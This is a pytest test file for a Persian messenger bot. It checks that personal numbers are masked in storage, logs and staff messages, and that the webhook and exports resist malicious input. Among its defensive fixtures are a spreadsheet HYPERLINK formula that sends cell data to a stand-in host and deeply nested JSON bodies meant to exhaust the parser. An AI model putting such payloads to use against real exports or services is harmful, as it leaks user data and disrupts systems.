"""Personal numbers (national codes, mobiles, bank cards, IBANs) are masked before any storage,
log line or staff card: the masking table, the log records, and the real bot in both flavors
(a national code typed after a status lookup; a card number in a complaint)."""

from __future__ import annotations

import ast
import csv
import io
import json
import logging
import zipfile
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from sqlalchemy import select

from messenger import MessengerUser
from models import FaqQuery
from models.tickets import TicketMessage
from services import exports, privacy
from services.persian import to_fa_digits
from services.privacy import mask_personal_numbers
from services.tickets import Attachment, validate_description
from services.volunteers import clean_text
from tests.complaints.complaints_helpers import file_ticket
from tests.conftest import Harness

AR = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")


def national_code(seed: int) -> str:
    digits = f"{seed:09d}"[-9:]
    remainder = sum(int(digits[i]) * (10 - i) for i in range(9)) % 11
    return digits + str(remainder if remainder < 2 else 11 - remainder)


def card_number(prefix: str = "603799751234567") -> str:
    """A 16-digit number passing the Luhn check."""
    for last in "0123456789":
        if privacy.luhn(prefix + last):
            return prefix + last
    raise AssertionError


def iban(bban: str = "0540102680020817909002") -> str:
    """The 24 digits after «IR» with the right check digits."""
    check = 98 - int(bban + "182700") % 97
    return f"{check:02d}{bban}"


CODE = national_code(123456789)  # 1234567891
CARD = card_number()
SHEBA = iban()
WRONG_CODE = CODE[:9] + str((int(CODE[9]) + 1) % 10)
WRONG_CARD = CARD[:15] + str((int(CARD[15]) + 1) % 10)


@pytest.mark.parametrize(
    ("text", "masked", "kinds"),
    [
        # National codes: any script, with the card's dashes, inside sentences.
        (f"کد ملی {CODE}", "کد ملی \u200e******7891", ("national_code",)),
        (f"کد ملی {to_fa_digits(CODE)} است", "کد ملی \u200e******۷۸۹۱ است", ("national_code",)),
        (CODE.translate(AR), "\u200e******٧٨٩١", ("national_code",)),
        (f"{CODE[:3]}-{CODE[3:9]}-{CODE[9]}", "\u200e***-***789-1", ("national_code",)),
        (f"code:{CODE}.", "code:\u200e******7891.", ("national_code",)),
        (WRONG_CODE, WRONG_CODE, ()),  # wrong check digit
        ("1111111111", "1111111111", ()),  # one digit repeated passes the check, but is no code
        # Mobiles: every usual form.
        ("09121234567", "\u200e*******4567", ("mobile",)),
        ("۰۹۱۲ ۱۲۳ ۴۵۶۷", "\u200e**** *** ۴۵۶۷", ("mobile",)),
        ("0912-123-4567", "\u200e****-***-4567", ("mobile",)),
        ("+98 912 123 4567", "\u200e+** *** *** 4567", ("mobile",)),
        ("+989121234567", "\u200e+********4567", ("mobile",)),
        ("989121234567", "\u200e********4567", ("mobile",)),
        ("00989121234567", "\u200e**********4567", ("mobile",)),
        ("شماره‌ام ٠٩١٢١٢٣٤٥٦٧ هست", "شماره‌ام \u200e*******٤٥٦٧ هست", ("mobile",)),
        ("0912123456", "0912123456", ()),  # a digit short
        # Cards: Luhn, in groups of four or together.
        (CARD, "\u200e************" + CARD[-4:], ("card",)),
        (
            f"{CARD[:4]}-{CARD[4:8]}-{CARD[8:12]}-{CARD[12:]}",
            "\u200e****-****-****-" + CARD[-4:],
            ("card",),
        ),
        (
            to_fa_digits(f"{CARD[:4]} {CARD[4:8]} {CARD[8:12]} {CARD[12:]}"),
            "\u200e**** **** **** " + to_fa_digits(CARD[-4:]),
            ("card",),
        ),
        (WRONG_CARD, WRONG_CARD, ()),
        # IBANs: «IR» and 24 digits in any grouping; 24 digits alone when the check passes.
        (f"IR{SHEBA}", "\u200eIR" + "*" * 20 + SHEBA[-4:], ("iban",)),
        (f"شبا: ir{to_fa_digits(SHEBA)}", "شبا: \u200eir" + "*" * 20 + to_fa_digits(SHEBA[-4:]), ("iban",)),
        (
            "IR" + " ".join([SHEBA[:2], *(SHEBA[i : i + 4] for i in range(2, 24, 4))]),
            "\u200eIR** **** **** **** **** **" + SHEBA[-4:-2] + " " + SHEBA[-2:],
            ("iban",),
        ),
        (SHEBA, "\u200e" + "*" * 20 + SHEBA[-4:], ("iban",)),
        # Several in one message, in the order KINDS lists them.
        (
            f"موبایل 09121234567 و کد {CODE}",
            "موبایل \u200e*******4567 و کد \u200e******7891",
            ("national_code", "mobile"),
        ),
        (f"{CODE} 09121234567", "\u200e******7891 \u200e*******4567", ("national_code", "mobile")),
    ],
)
def test_personal_numbers_are_masked(text: str, masked: str, kinds: tuple[str, ...]) -> None:
    result = mask_personal_numbers(text)
    assert (result.text, result.kinds) == (masked, kinds)
    assert mask_personal_numbers(result.text).text == result.text  # idempotent


@pytest.mark.parametrize(
    "text",
    [
        "۵۰٬۰۰۰ تومان",
        "50,000 toman",
        "1,500,000",
        "۱ میلیون و ۵۰۰",
        "۱۴۰۴/۰۷/۲۰",
        "2025-10-20",
        "1405-000001",  # a receipt number: ten digits, but not grouped like a national code
        "رسید ۱۴۰۵-۰۰۰۰۰۱",
        "HMD-1405-000123",
        "کد پیگیری ۱۴۰۴۰۰۱۲۳",
        "1234 5678",
        "ساعت 10:30",
        "A00000000000000000000000000000012345",  # a gateway authority
        "",
    ],
)
def test_ordinary_numbers_are_left_alone(text: str) -> None:
    assert mask_personal_numbers(text) == privacy.Masked(text)


def test_log_records_are_masked(caplog: pytest.LogCaptureFixture) -> None:
    privacy.install_log_masking()
    privacy.install_log_masking()  # twice changes nothing
    caplog.set_level(logging.INFO)
    logger = logging.getLogger("hamdel.test_privacy")
    logger.info("someone typed %s and %s", to_fa_digits(CODE), CARD)
    try:
        raise ValueError(f"bad mobile 09121234567 for {CODE}")
    except ValueError:
        logger.exception("failed")
    text = caplog.text
    assert "\u200e******۷۸۹۱" in text and "\u200e*******4567" in text
    for secret in (CODE, to_fa_digits(CODE), CARD, "09121234567"):
        assert secret not in text
        assert not [r for r in caplog.records if secret in r.getMessage()]


# --------------------------------------------------------------------------------------------
# Through the real bot


async def say(hamdel: Harness, user: MessengerUser, text: str) -> dict[str, Any]:
    user.skip_to_end()
    await user.send(text)
    reply = await user.next_message(timeout=10)
    await hamdel.settle()
    return reply


async def test_a_national_code_typed_after_a_lookup_is_masked_and_the_person_told(hamdel: Harness) -> None:
    admin = hamdel.admin
    admin.skip_to_end()
    csv = f"کد پیگیری,کد ملی,وضعیت,تاریخ\n140400123,{CODE},queued,1405/08/20\n".encode()
    await admin.send_document(filename="statuses.csv", data=csv, mime_type="text/csv")
    assert "۱ پرونده تازه" in (await admin.next_message(timeout=10))["text"]
    user = hamdel.user()
    await say(hamdel, user, "/status")
    await say(hamdel, user, "140400123")
    reply = await say(hamdel, user, to_fa_digits(CODE))
    assert reply["text"].startswith("📄 پرونده ۱۴۰۴۰۰۱۲۳")
    # The lookup is over; the code typed again (as people do) is free text.
    typed = f"کد ملی من {to_fa_digits(CODE)} هست، چرا پرونده‌ام در نوبت مانده؟"
    reply = await say(hamdel, user, typed)
    assert "🔒 کد ملی را پیش از ذخیره پوشاندیم (جز چهار رقم آخر)" in reply["text"]
    async with hamdel.db() as session:
        stored = list(await session.scalars(select(FaqQuery).where(FaqQuery.user_id == user.id)))
    assert len(stored) == 1 and stored[0].text is not None
    assert stored[0].text.startswith("کد ملی من \u200e******۷۸۹۱ هست")
    # Sent to an expert: the staff card shows it masked too.
    button = next(b for b in user.buttons() if "کارشناس" in b)
    user.skip_to_end()
    await user.press(button)
    card = await hamdel.staff_chat.next_message()
    assert "\u200e******۷۸۹۱" in card["text"]
    for shown in (card["text"], user.last_text):
        assert CODE not in shown and to_fa_digits(CODE) not in shown


async def test_a_card_number_in_a_complaint_is_masked_in_the_database_and_on_the_card(
    hamdel: Harness,
) -> None:
    user = hamdel.user()
    grouped = to_fa_digits(f"{CARD[:4]}-{CARD[4:8]}-{CARD[8:12]}-{CARD[12:]}")
    ticket = await file_ticket(
        hamdel, user, text=f"مبلغ از کارت {grouped} کم شد ولی رسیدی نیامد. لطفاً پیگیری کنید."
    )
    masked = "\u200e****-****-****-" + to_fa_digits(CARD[-4:])
    assert ticket.description == f"مبلغ از کارت {masked} کم شد ولی رسیدی نیامد. لطفاً پیگیری کنید."
    card = hamdel.staff_chat.last
    assert card is not None and masked in card["text"] and grouped not in card["text"]
    told = [m["text"] for m in user.messages if "🔒" in (m.get("text") or "")]
    assert told == [
        "🔒 شمارهٔ کارت بانکی را پیش از ذخیره پوشاندیم (جز چهار رقم آخر)؛ لازم نیست چنین شماره‌هایی را در پیام بنویسید."
    ]
    # A follow-up with a mobile and an IBAN: stored masked, relayed masked, the donor told.
    await user.send("/mytickets")
    await user.wait_until(lambda u: "T-" in " ".join(u.buttons()))
    await user.press("T-")
    await user.wait_until(lambda u: "✍️" in " ".join(u.buttons()))
    await user.press("✍️")
    await user.wait_until(lambda u: "بنویسید" in u.last_text)
    await user.send(f"شماره‌ام ۰۹۱۲ ۱۲۳ ۴۵۶۷ است و شبا IR{SHEBA}")
    await user.wait_until(lambda u: "🔒" in u.last_text)
    assert "شمارهٔ موبایل، شمارهٔ شبا را پیش از ذخیره پوشاندیم" in user.last_text
    await hamdel.settle()
    async with hamdel.db() as session:
        texts = [
            m.text or ""
            for m in await session.scalars(select(TicketMessage).where(TicketMessage.ticket_id == ticket.id))
        ]
    assert f"شماره‌ام \u200e**** *** ۴۵۶۷ است و شبا \u200eIR{'*' * 20}{SHEBA[-4:]}" in texts
    relayed = hamdel.staff_chat.last
    assert relayed is not None and "۰۹۱۲ ۱۲۳ ۴۵۶۷" not in relayed["text"] and SHEBA not in relayed["text"]
    assert "\u200e**** *** ۴۵۶۷" in relayed["text"]


# --------------------------------------------------------------------------------------------
# The webhook's own checks


async def test_the_webhook_refuses_deeply_nested_json_and_forged_requests(hamdel_webhook: Harness) -> None:
    hook = hamdel_webhook.messenger.calls("setWebhook")[-1].params
    headers = {
        "X-Telegram-Bot-Api-Secret-Token": hook.get("secret_token", ""),
        "Content-Type": "application/json",
    }
    deep = '{"update_id": 5, "message": ' + '{"a": ' * 100_000 + "1" + "}" * 100_000 + "}"
    nested = {"update_id": 6, "message": {"chat": {"id": 1}}}
    inner: dict[str, Any] = nested["message"]
    for _ in range(200):
        inner["x"] = {}
        inner = inner["x"]
    async with aiohttp.ClientSession() as client:
        for body in (deep, json.dumps(nested), "[" * 50_000 + "]" * 50_000, "not json"):
            response = await client.post(hook["url"], data=body, headers=headers)
            assert response.status == 400, body[:40]
        if hamdel_webhook.app.profile.webhook_secret_header:
            forged = await client.post(
                hook["url"], json={"update_id": 7}, headers={"X-Telegram-Bot-Api-Secret-Token": "x"}
            )
            assert forged.status == 401
        guessed = await client.post(hook["url"].rsplit("/", 1)[0] + "/" + "0" * 32, json={"update_id": 8})
        assert guessed.status == 404
    # The bot still answers.
    user = hamdel_webhook.user()
    await user.send("/start")
    assert (await user.next_message())["text"].startswith("سلام")


# --------------------------------------------------------------------------------------------
# Held today, kept holding: spreadsheet formulas, parse modes


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_export_cells_starting_like_a_formula_are_escaped(start: str) -> None:
    value = f'{start}HYPERLINK("http://x.example/?"&A1)'
    table = exports.ExportTable(["description"], [(value,), ("عادی",)])
    rows = list(csv.reader(io.StringIO(exports.to_csv(table).decode("utf-8-sig"), newline="")))
    assert rows[1] == ["'" + value] and rows[2] == ["عادی"]
    with zipfile.ZipFile(io.BytesIO(exports.to_xlsx(table))) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # a string, never a formula


SOURCES = [
    path
    for folder in ("bot", "handlers", "services")
    for path in sorted((Path(__file__).resolve().parent.parent / folder).glob("*.py"))
]


@pytest.mark.slow  # reads every module
def test_no_parse_mode_anywhere_in_the_bot() -> None:
    """Texts are sent plain: a person's text can never be read as markup (Bale ignores it anyway,
    Telegram would fail or format). No call passes parse_mode, and the bot's default has none."""
    offenders = []
    for path in SOURCES:
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Call):
                names = [k.arg for k in node.keywords]
                if "parse_mode" in names or any(
                    isinstance(a, ast.Constant) and a.value in ("HTML", "MarkdownV2", "Markdown")
                    for a in node.args
                ):
                    offenders.append(f"{path.name}:{node.lineno}")
            if isinstance(node, ast.Attribute) and node.attr == "ParseMode":
                offenders.append(f"{path.name}:{node.lineno}")
    assert len(SOURCES) > 50 and offenders == []


async def test_the_bots_default_parse_mode_is_none_and_user_markup_stays_text(hamdel: Harness) -> None:
    assert hamdel.app.bot.default.parse_mode is None
    user = hamdel.user()
    reply = await say(hamdel, user, "<b>سلام</b> *بیمه* _تکمیلی_ [x](http://x.example)")
    assert reply.get("entities") in (None, [])
    button = next(b for b in user.buttons() if "کارشناس" in b)
    await user.press(button)
    card = await hamdel.staff_chat.next_message()
    assert "<b>سلام</b> *بیمه* _تکمیلی_ [x](http://x.example)" in card["text"]
    assert not card.get("entities")
    for request in hamdel.messenger.requests:
        assert "parse_mode" not in request.params, request.method


def test_every_storage_point_masks() -> None:
    """The service-level helpers the flows store through (conversation drafts included)."""
    caption = f"رسید کارت {CARD}"
    assert Attachment("photo", "f", 1, 2, caption).as_dict()["caption"] == mask_personal_numbers(caption).text
    assert CODE not in validate_description(f"کد ملی {CODE}", 2000)
    assert clean_text("موبایل 09121234567", 400) == "موبایل \u200e*******4567"
    assert privacy.mask(None) is None


def test_the_nesting_check_walks_only_bodies_that_could_nest_too_deep(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """bot.webhook.body_too_deep: the same verdict as walking the value, which it skips for a body
    with fewer opening brackets than the limit (brackets inside strings only add to the count)."""
    from bot import webhook

    entities = [{"type": "bold"}]
    shallow: dict[str, Any] = {"update_id": 1, "message": {"text": "{[" * 40, "entities": entities}}
    deep: dict[str, Any] = {"update_id": 2}
    inner = deep
    for _ in range(webhook.MAX_JSON_DEPTH + 1):
        inner["x"] = {}
        inner = inner["x"]
    for value, verdict in ((shallow, False), (deep, True), ({"update_id": 3, "a": [[[]]]}, False)):
        body = json.dumps(value).encode()
        assert webhook.body_too_deep(body, value) is verdict is webhook.too_deep(value)
    walked: list[Any] = []
    walk = webhook.too_deep

    def walking(value: Any, limit: int) -> bool:
        walked.append(value)
        return walk(value, limit)

    monkeypatch.setattr(webhook, "too_deep", walking)
    assert not webhook.body_too_deep(json.dumps(entities).encode(), entities) and walked == []
    assert not webhook.body_too_deep(json.dumps(shallow).encode(), shallow)  # 80 in the text
    assert walked == [shallow]
